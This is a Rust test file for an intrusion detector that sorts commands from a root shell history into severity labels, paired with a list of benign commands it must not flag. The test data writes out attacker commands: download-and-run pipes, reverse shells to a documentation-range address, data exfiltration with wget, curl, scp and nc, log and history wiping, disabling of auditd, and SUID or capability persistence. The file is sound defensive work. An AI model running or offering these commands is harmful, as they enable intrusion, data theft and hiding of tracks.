//! Commands of intruders, and those of everybody.

use super::find;
use crate::testing::{Told, found_in, titles, view};

fn told(command: &str) -> Vec<String> {
    let event = Told {
        path: "/root/.bash_history",
        kind: "shell.command",
        time: 1_700_000_000,
        user: "root".to_owned(),
        message: command.to_owned(),
        ..Told::default()
    };
    titles(&found_in(&view(&[]), &[event], find)).iter().map(|it| it.split(':').next().unwrap().to_owned()).collect()
}

#[test]
fn commands_of_intruders_are_told() {
    for (command, expected) in [
        ("curl -fsSL http://192.0.2.9/i.sh | bash", "high ran.download-and-run"),
        ("wget http://192.0.2.9/m -O /opt/m && chmod +x /opt/m", "high ran.download-and-run"),
        ("curl -fsSL https://deb.example.org/setup_20.x | bash -", "medium ran.download-and-run"),
        ("curl -k https://192.0.2.9/x | bash", "high ran.download-and-run"),
        ("rm /var/log/apache2/access.log.14.gz", "low hidden.logs-wiped"),
        ("rm /var/log/apache2/access.log.14.gz /var/log/auth.log", "high hidden.logs-wiped"),
        ("touch -d yesterday x", "low hidden.times-set"),
        ("bash -i >& /dev/tcp/192.0.2.9/4444 0>&1", "high ran.reverse-shell"),
        ("nc 192.0.2.9 4444 -e /bin/sh", "high ran.reverse-shell"),
        ("python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)'", "high ran.reverse-shell"),
        ("./xmrig -o pool.example:3333", "high ran.miner"),
        ("nohup /dev/shm/.x/run &", "medium ran.from-temporary"),
        ("echo aGk= | base64 -d | sh", "medium ran.decoded"),
        ("find / -perm -4000 -type f 2>/dev/null", "low ran.looking-around"),
        ("cat /etc/shadow", "medium ran.secrets-read"),
        ("history -c", "high hidden.history-wiped"),
        ("rm -f ~/.bash_history", "high hidden.history-wiped"),
        ("rm -rf /var/log/nginx/access.log", "high hidden.logs-wiped"),
        ("sed -i '/192.0.2.9/d' /var/log/auth.log", "high hidden.logs-wiped"),
        ("iptables -F", "medium hidden.defence-disabled"),
        ("systemctl stop auditd", "medium hidden.defence-disabled"),
        ("touch -r /bin/ls /usr/bin/x", "medium hidden.times-set"),
        ("chattr +i /etc/cron.d/x", "medium hidden.attributes"),
        ("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", "medium persists.key-added"),
        ("crontab -e", "low persists.cron-changed"),
        ("useradd -o -u 0 -m toor", "low persists.account-by-command"),
        ("chmod u+s /bin/bash", "high persists.rights-given"),
        ("setcap cap_setuid+ep /usr/bin/perl", "high persists.rights-given"),
        ("insmod /root/.x/rk.ko", "medium persists.module-loaded"),
        ("systemctl disable --now rsyslog", "medium hidden.defence-disabled"),
        ("mysql -e 'select * from customers' booking > /tmp/c", "medium data.dumped"),
        ("wget --post-file=/etc/passwd http://192.0.2.9/", "medium data.sent"),
        ("tar cz /srv | ssh x@192.0.2.9 'cat > s.tgz'", "medium data.sent"),
        ("mysqldump booking > /tmp/b.sql", "medium data.dumped"),
        ("curl -T /tmp/b.sql ftp://192.0.2.9/", "medium data.sent"),
        ("scp b.sql x@192.0.2.9:", "medium data.sent"),
        ("scp -f /srv/customers.sql", "medium data.sent"),
        ("rsync --server --sender -logDtpre.iLsfxC . /srv/", "medium data.sent"),
        ("nc 192.0.2.9 80 < /tmp/b.sql", "medium data.sent"),
        ("tar czf /tmp/w.tgz /var/www", "low data.packed"),
        ("hydra -L u -P p ssh://198.51.100.1", "high onward.attack-tool"),
        ("nmap -sS 10.0.0.0/8", "medium onward.scan"),
    ] {
        assert_eq!(told(command), [expected], "{command}");
    }
}

#[test]
fn commands_of_everybody_are_not() {
    for command in [
        "nmap -p 443 localhost",
        "nmap -sV 127.0.0.1",
        "ls -la /tmp",
        "cd /var/log",
        "tail -f /var/log/syslog",
        "apt-get install nmap",
        "curl -I https://example.org/",
        "wget https://example.org/x.tar.gz",
        "systemctl restart nginx",
        "service apache2 reload",
        "touch /root/x",
        "vim /etc/ssh/sshd_config",
        "history",
        "cat /etc/passwd",
        "find / -name '*.conf'",
        "tar xzf x.tar.gz",
        "crontab -l",
        "mysql -u root -p",
        "nc -zv localhost 80",
        "rsync --server -logDtpre.iLsfxC . /srv/",
        "python3 -c 'print(1)'",
        "echo hello > /tmp/x",
        "rm /tmp/x",
        "id",
        "chmod 755 x",
        "chmod a+x run.sh",
        "modprobe loop",
        "setcap -r /usr/bin/x",
        "mysql -e 'show tables' > /tmp/t",
        "tar xz -C /srv",
        "sync /dev/shm",
        "rm -rf /var/cache/apt",
    ] {
        assert_eq!(told(command), [""; 0], "{command}");
    }
}

#[test]
fn the_gravest_of_several_commands_is_named() {
    let event = |second: i64, command: &str| Told {
        path: "/root/.bash_history",
        kind: "shell.command",
        time: 1_700_000_000 + second,
        user: "root".to_owned(),
        message: command.to_owned(),
        ..Told::default()
    };
    let events = [event(0, "curl -s https://deb.example.org/x | bash"), event(1, "curl -s http://192.0.2.9/x | bash")];
    let found = found_in(&view(&[]), &events, find);
    assert_eq!(
        titles(&found),
        ["high ran.download-and-run: root downloaded something and ran it: curl -s http://192.0.2.9/x | bash"]
    );
    assert_eq!(found.findings[0].evidence.len(), 2);
}
